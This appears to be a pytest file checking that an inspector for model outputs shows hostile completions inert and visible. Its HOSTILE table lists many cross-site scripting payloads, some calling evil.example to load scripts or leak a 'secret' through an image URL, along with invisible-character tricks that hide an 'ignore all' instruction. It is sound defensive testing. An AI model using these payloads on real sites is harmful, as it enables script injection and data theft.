"""Whatever a model wrote is shown, and nothing of it runs, hides, reorders or gets lost."""

from __future__ import annotations

import html
import json
import re
import sys
import time
import unicodedata

import pytest
from html_reading import TextReading
from hypothesis import given, settings
from hypothesis import strategies as st

from mmrl.inspector.diff import matching_blocks
from mmrl.inspector.text import (
    CSS,
    completion_html,
    diff_html,
    parsed_spans,
    plain_html,
    scale_of,
    tokens_html,
    value_html,
    verdict_words,
)
from mmrl.parse.completion import parse_completion
from mmrl.parse.visible import visible
from mmrl.types import Verdict

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a newline": "<script\n>alert(1)</script\n>",
    "script after a slash": "<script/x>alert(1)</script/x>",
    "script never closed": "<script>alert(1)",
    "script behind a NUL": "<\0script>alert(1)</script>",
    "script in full-width signs": "＜script＞alert(1)＜/script＞",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img with quotes": "\"><img src=x onerror='alert(`1`)'>",
    "img without an end": "<img src=x onerror=alert(1)//",
    "attribute break-out": '" onmouseover="alert(1)" x="',
    "single-quoted break-out": "' onfocus='alert(1)' autofocus='",
    "javascript link": '<a href="javascript:alert(1)">press</a>',
    "javascript link in entities": '<a href="&#106;avascript:alert(1)">press</a>',
    "javascript link with a tab": "<a href='java\tscript:alert(1)'>press</a>",
    "bare javascript": "javascript:alert(document.domain)",
    "data url": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "pre break-out": "</pre></div></body><script>alert(1)</script>",
    "textarea break-out": "</textarea></title></style></noscript><script>alert(1)</script>",
    "box break-out": "</small></span></bdi></div></div><h1>owned</h1>",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "entities without an end": "&lt&gt&amp&quot&copy&#60&#x3C",
    "comment": "<!-- hidden --><!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html><html><body onload=alert(1)>",
    "instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "style": "<style>*{display:none}body{background:url(//evil.example)}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:red">owned</div>',
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "svg onload": "<svg/onload=alert(1)>",
    "svg script": "<svg><script href='data:,alert(1)'/></svg>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "form": '<form action="//evil.example"><input name=p autofocus onfocus=alert(1)></form>',
    "button": "<button formaction=javascript:alert(1)>press</button>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "template element": "<template><script>alert(1)</script></template>",
    "custom element": "<gradio-app src='//evil.example'></gradio-app>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "markdown link": "[press](javascript:alert(1)) <javascript:alert(1)>",
    "markdown image": "![x](https://evil.example/?q=secret)",
    "template strings": "{{7*7}} ${7*7} <%= 7*7 %> {% raw %} #{7*7} %s {0}",
    "LaTeX": r"$\href{javascript:alert(1)}{x}$ \(\unicode{x3c}script\)",
    "ANSI": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07press\x1b]8;;\x07",
    "8-bit ANSI": "\x9b31mred\x9d0;title\x9c",
    "NULs": "\0" * 50 + "a\0b",
    "every control": "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "right-to-left override": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "bidi never closed": "\u202b\u202e\u2067\u2068<answer>1</answer>",
    "zero width": "<scr\u200bipt>\u2060\ufeff\u00ad\u180e\u115f\u3164\u2800",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\U000e0101",
    "lone surrogates": "\ud800\udfff <b>\udc00</b>",
    "noncharacters": "\ufffe\uffff\U0001ffff\ufdd0",
    "line separators": "a\u2028b\u2029c\x0bd\x0ce\x85f\rg\r\nh",
    "combining marks": "Z" + "\u0301\u0316\u035b" * 400,
    "leading mark": "\u0338> \u0338= \u20d2<",
    "homoglyph tags": "<аnswer>1</аnswer> ＜answer＞2＜/answer＞ <answеr>3</answеr>",
    "Hebrew and Arabic": "שלום <answer>עברית 12</answer> العربية (א)",
    "broken tags": "<think>a<answer>b</think>c<answer>d</answer></answer></think><think>",
    "nearly tags": "< answer >1</ answer> <Answer>2</ANSWER> <answer onclick=alert(1)>3<answer",
    "a million letters": "a" * 1_000_000,
    "a hundred thousand angles": "<" * 100_000,
    "a hundred thousand tags": "<answer>" * 50_000 + "</think>" * 50_000,
    "ampersands": "&" * 30_000,
    "one endless word of signs": "\u200b" * 30_000,
    "empty": "",
}


def shown(text: str, most: int = 20_000) -> str:
    """What a box with a text must say."""
    if len(text) <= most:
        return visible(text)
    head = most * 3 // 4
    return visible(text[:head]) + visible(text[-(most - head) :])


def as_completion(text: str) -> str:
    parsed = parse_completion(text)
    return completion_html(
        text,
        reasoning_span=parsed.reasoning_span,
        answer_span=parsed.answer_span,
        verdict=parsed.verdict,
    )


def as_tokens(text: str) -> str:
    return tokens_html(text, [(i, -float(i % 5)) for i in range(0, len(text), 3)], measure="logp")


@pytest.mark.parametrize("show", [as_completion, as_tokens, plain_html])
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_completion_is_shown_inert(name, show):
    source = show(HOSTILE[name])
    assert TextReading(source).text == shown(
        HOSTILE[name]
    )  # and only allowed tags: see TextReading
    assert len(source) < 4_000_000
    source.encode("utf-8")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_value_and_a_hostile_diff_are_shown_inert(name):
    text = HOSTILE[name]
    more = f"… {len(text) - 2000:,} more characters …" if len(text) > 2000 else ""
    assert TextReading(value_html(text)).everything == visible(text[:2000]) + more
    TextReading(value_html({text[:500]: [text[:500], None, 1.5]}))
    assert TextReading(diff_html(text, "other words")).boxes == [shown(text), "other words"]


TEXT = st.text(
    st.one_of(
        st.characters(),
        st.characters(categories=["Cs", "Cc", "Cf", "Zl", "Zp", "Mn"]),
        st.sampled_from("<>&\"'/=;#x \n\t"),
    ),
    max_size=60,
)
PIECES = st.lists(
    st.one_of(TEXT, st.sampled_from(["<think>", "</think>", "<answer>", "</answer>", "<answer"])),
    max_size=8,
).map("".join)
SPAN = st.none() | st.tuples(st.integers(-2, 70), st.integers(-2, 70))
VALUE = st.none() | st.floats()


@given(PIECES, SPAN, SPAN, st.integers(1, 80), TEXT)
@settings(max_examples=150, deadline=None)
def test_any_text_with_any_spans_stands_whole_in_allowed_tags(text, one, other, most, verdict):
    source = completion_html(
        text, reasoning_span=one, answer_span=other, verdict=verdict, most=most
    )
    reading = TextReading(source)
    assert reading.text == shown(text, most)
    assert len(reading.of_class("mm-note")) == (len(text) > most)
    source.encode("utf-8")


@given(
    PIECES,
    st.lists(st.tuples(st.integers(-3, 80), VALUE), max_size=20),
    st.sampled_from(["logp", "entropy", "advantage", "weight"]),
    st.integers(1, 80),
)
@settings(max_examples=150, deadline=None)
def test_any_tokens_keep_every_character(text, tokens, measure, most):
    source = tokens_html(text, tokens, measure=measure, most=most)
    assert TextReading(source).text == shown(text, most)
    source.encode("utf-8")


@given(PIECES, PIECES, st.integers(0, 40))
@settings(max_examples=150, deadline=None)
def test_a_diff_keeps_both_texts_and_what_is_unmarked_is_common(left, right, budget):
    source = diff_html(left, right, budget=budget)
    assert TextReading(source).boxes == [visible(left), visible(right)]
    unmarked = re.sub(r"<(ins|del)>.*?</\1>", "", source, flags=re.DOTALL)
    kept_l, kept_r = (re.sub("[ \t\n]", "", text) for text in TextReading(unmarked).boxes)
    assert kept_l == kept_r


JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)


@given(JSON, st.integers(1, 60))
@settings(max_examples=100, deadline=None)
def test_any_target_stands_in_allowed_tags(value, most):
    source = value_html(value, most=most)
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
    assert TextReading(source).everything.startswith(visible(text[:most]))
    source.encode("utf-8")


def test_signs_for_characters_that_hide_by_hand():
    assert visible("a\x1b[0m\0\x7f\r\n\t") == "a«ESC»[0m«NUL»«DEL»«CR»\n\t"
    assert visible("x\u202ey\ud800\x85\U000e0041") == "x«U+202E»y«U+D800»«U+0085»«U+E0041»"
    source = plain_html("a\u202eb")
    assert '<span class="mm-sign" title="U+202E RIGHT-TO-LEFT OVERRIDE">«U+202E»</span>' in source


def test_no_character_without_a_glyph_is_left():
    glyphs = {*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD, 9, 10}
    every = "".join(
        chr(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in glyphs
    )
    assert len(every) > 2000
    assert not set(visible(every)) & set(every)
    plain = "aé漢字 ✔️ Ω \u0600 नमस्ते 👍🏽 \t\n"
    assert visible(plain) == plain


def test_reasoning_answer_and_tags_have_their_classes():
    text = "<think>look</think> <answer>7</answer>"
    reading = TextReading(as_completion(text))
    assert reading.of_class("mm-reasoning") == ["look"]
    assert reading.of_class("mm-answer") == ["7"]
    assert reading.of_class("mm-outside") == [" "]
    assert reading.of_class("mm-tag") == ["<think>", "</think>", "<answer>", "</answer>"]
    assert reading.of_class("mm-bad") == []
    assert reading.of_class("mm-verdict") == [""] and "well-formed" in reading.everything


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("<answer>1", {"<answer>": "never closed"}),
        ("1</answer>", {"</answer>": "closes what was never opened"}),
        (
            "<think>a</think><answer>1<answer>2</answer>",
            {"<answer>": "opened again before it was closed"},
        ),
        (
            "<think>a</think><answer>1</answer><answer>2</answer>",
            {"<answer>": "another pair", "</answer>": "another pair"},
        ),
        (
            "<answer>1</answer><think>a</think>",
            {"<answer>": "another pair", "</answer>": "another pair"},
        ),
        ("<think>a</think><Answer>1</answer >", {"<Answer>": "nearly", "</answer >": "nearly"}),
        ("<think>a</think><answer>1</answer", {"<answer>": "never closed", "</answer": "nearly"}),
        ("<thinking>a</thinking> x < answer or 3 < think", {}),
    ],
)
def test_wrong_tags_are_marked_with_the_reason(text, marked):
    elements = TextReading(as_completion(text)).elements
    bad = {t: e["title"] for _, e, t in elements if e.get("class") == "mm-tag mm-bad"}
    assert bad.keys() == marked.keys()
    assert all((bad[tag] or "").startswith(why) for tag, why in marked.items())


def test_only_the_pair_that_counts_is_unmarked():
    text = "<think>a</think><answer>1</answer><answer>2</answer>"
    reading = TextReading(as_completion(text))
    assert reading.of_class("mm-answer") == ["2"]
    assert len(reading.of_class("mm-bad")) == 3  # the first pair, and the verdict
    assert "a tag is repeated" in reading.everything


def test_every_verdict_has_words_and_an_unknown_one_is_shown_as_it_is():
    assert len({verdict_words(v) for v in Verdict}) == len(Verdict)
    assert verdict_words("<b>") == "<b>"
    assert "&lt;b&gt;" in completion_html("x", verdict="<b>")
    assert "mm-verdict" not in completion_html("x")


@pytest.mark.parametrize("span", [(3, 1), (0, 99), (-1, 2), [0], "ab", (0.0, 1.0), (True, 2), None])
def test_a_span_that_is_none_is_ignored(span):
    assert "mm-answer" not in completion_html("abc", answer_span=span)
    record = {"text": "abc", "reasoning_span": None, "answer_span": span}
    assert parsed_spans(record) == (None, None)


def test_records_of_older_runs_are_parsed_again():
    text = "<think>ab</think><answer>c</answer>"
    assert parsed_spans({"text": text}) == ((7, 9), (25, 26))
    new = {"text": text, "reasoning_span": [7, 9], "answer_span": [25, 26]}
    assert parsed_spans(new) == ((7, 9), (25, 26))


def test_a_long_text_says_what_is_missing_and_keeps_its_answer():
    text = "<think>" + "a" * 1_254_567 + "</think><answer>7</answer>"
    reading = TextReading(as_completion(text))
    assert reading.of_class("mm-note") == [f"… {len(text) - 20_000:,} more characters …"]
    assert reading.of_class("mm-answer") == ["7"]


def test_scales_by_hand():
    assert scale_of([-0.5, None, float("nan")], "logp") == (-1.0, 0.0)
    assert scale_of([-0.5, -4.0], "logp") == (-4.0, 0.0)
    assert scale_of([0.5, 2.0], "entropy") == (0.0, 2.0)
    assert scale_of([0.25], "weight") == (0.0, 1.0)
    assert scale_of([0.5, -2.0], "advantage") == (-2.0, 2.0)
    assert scale_of([], "advantage") == (-1.0, 1.0)


def backgrounds(source: str) -> dict[str, str]:
    found = re.findall(r'style="background:rgba\(([^)]*)\)">([^<]*)<', source.split("mm-text")[1])
    return {html.unescape(text): colour for colour, text in found}


def test_colours_by_hand():
    # strengths 0, 1/2, 1 (and beyond the scale: 1) of 0.6
    text, tokens = "abcd", [(0, 0.0), (1, -2.0), (2, -4.0), (3, -9.0)]
    assert backgrounds(tokens_html(text, tokens, measure="logp", scale=(-4.0, 0.0))) == {
        "a": "213,94,0,0.000",
        "b": "213,94,0,0.300",
        "c": "213,94,0,0.600",
        "d": "213,94,0,0.600",
    }
    tokens = [(0, 1.0), (1, -2.0), (2, 0.0), (3, 4.0)]
    assert backgrounds(tokens_html(text, tokens, measure="advantage")) == {
        "a": "0,114,178,0.150",
        "b": "213,94,0,0.300",
        "c": "0,114,178,0.000",
        "d": "0,114,178,0.600",
    }
    tokens = [(0, 0.0), (1, 1.0), (3, 0.5)]
    assert backgrounds(tokens_html(text, tokens, measure="weight")) == {
        "a": "213,94,0,0.000",
        "bc": "213,94,0,0.600",
        "d": "213,94,0,0.300",
    }


def test_tokens_of_one_character_share_it_and_the_end_token_stands_behind():
    source = tokens_html("é!", [(0, -1.0), (0, -3.0), (1, -0.5), (2, -0.25)], measure="logp")
    titles = [e["title"] for _, e, _ in TextReading(source).elements if "title" in e]
    assert titles == [
        "log-prob [nats] -2, mean of 2 tokens: -1, -3",
        "log-prob [nats] -0.5",
        "log-prob [nats] -0.25",
    ]
    assert TextReading(source).of_class("mm-end") == [""]


def test_a_token_without_a_value_has_no_colour():
    source = tokens_html("ab", [(0, None), (1, float("nan"))], measure="entropy")
    assert backgrounds(source) == {}
    assert source.count('title="no entropy [nats]"') == 2


def test_values_that_overflow_are_none():
    tokens = [(0, 1e308), (1, -1e308), (2, float("inf"))]
    source = tokens_html("abc", tokens, measure="advantage")
    assert backgrounds(source) == {} and TextReading(source).text == "abc"


def test_the_legend_has_the_numbers_of_the_scale():
    source = tokens_html("a", [(0, 2.0)], measure="advantage")
    legend = [text for _, e, text in TextReading(source).elements if "style" in e][:5]
    assert legend == ["-2", "-1", "0", "1", "2"]


def test_a_diff_by_hand():
    source = diff_html("the red box is left", "the blue box is to the left")
    reading = TextReading(source)
    assert [t for tag, _, t in reading.elements if tag == "del"] == ["red "]
    assert [t for tag, _, t in reading.elements if tag == "ins"] == ["blue ", "to the "]
    assert "<ins>" not in diff_html("same text", "same text")
    assert "<ins>" not in diff_html("same text\n", "same  text")  # white space is not compared


def test_matching_blocks_by_hand():
    assert matching_blocks("abxcd", "abycd") == ([(0, 0, 2), (3, 3, 2)], True)
    # b and c are searched: each occurs once on the right, so the search costs 1 + 1 for each
    assert matching_blocks("abcz", "acbz", budget=3) == ([(0, 0, 1), (3, 3, 1)], False)
    assert matching_blocks("abcz", "acbz", budget=4)[0][1] == (1, 2, 1)
    assert matching_blocks("", "ab") == ([], True)
    assert matching_blocks("aa", "aaa") == ([(0, 0, 2)], True)


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("a " * 9_000 + "x", "b " + "a " * 8_000 + "y"),
        (" ".join(map(str, range(3000))), " ".join(map(str, range(3000, 0, -1)))),
        ("a b " * 4_000, "b a c " * 3_000),
    ],
)
def test_a_costly_diff_stops_in_time(left, right):
    before = time.process_time()
    source = diff_html(left, right)
    assert time.process_time() - before < 5.0
    assert TextReading(source).boxes == [visible(left), visible(right)]


def test_a_diff_that_was_cut_short_says_so():
    text = " ".join("ab"[i % 2] for i in range(3000))
    assert "too different" in diff_html("x " + text, text + " y c")
    assert "too different" not in diff_html("x " + text[:40], text[:40] + " y")


def test_the_styles_know_both_themes_and_load_nothing():
    assert ".dark{" in CSS and "--mm-answer" in CSS
    assert not re.search(r"url\(|@import|expression|</", CSS)
    classes = set(re.findall(r'class="([^"]*)"', as_completion("a<answer>\0") + as_tokens("ab")))
    used = {c for group in classes for c in group.split()}
    assert {c for c in used if f".{c}" not in CSS} == {"mm-completion"} - set(
        re.findall(r"mm-\w+", CSS)
    )
